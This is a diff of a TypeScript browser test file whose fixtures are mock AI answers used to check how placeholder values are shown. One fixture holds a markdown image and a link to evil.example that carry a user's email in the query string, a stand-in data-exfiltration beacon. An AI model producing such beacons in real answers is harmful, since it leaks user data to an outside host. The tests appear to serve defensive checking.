@@ -152,7 +152,7 @@ describe('answers in Chromium', { skip: NO_CHROMIUM }, () => {
 
   it('show the value in the text and the placeholder in the address', async () => {
     const viewer = await open()
-    await viewer.page.setViewport({ width: 760, height: 420, deviceScaleFactor: 1 })
+    await viewer.page.setViewport({ width: 760, height: 150, deviceScaleFactor: 1 })
     const [blocking] = WAYS
     for (const [name, answer] of Object.entries(PICTURES)) {
       const [shown = ''] = (await blocking?.send(answer, createRandom(1, 1))) ?? []
@@ -178,12 +178,12 @@ const PICTURES: Readonly<Record<string, string>> = {
 
 | Name | E-mail | Phone |
 |------|--------|-------|
-| NAME_1 | EMAIL_1 | PHONE_1 |
+| NAME_2 | EMAIL_1 | PHONE_1 |
 
 Call **PHONE_1** first, then write to EMAIL_1. The form is [here](https://forms.example/leave).`,
   'answer-withheld': `I have looked it up: the address is EMAIL_1.
 
-![status](https://evil.example/pixel.png?who=EMAIL_1)
+![status of EMAIL_1](https://evil.example/pixel.png?who=EMAIL_1)
 
 See also https://evil.example/track?who=EMAIL_1 for details.`,
 }
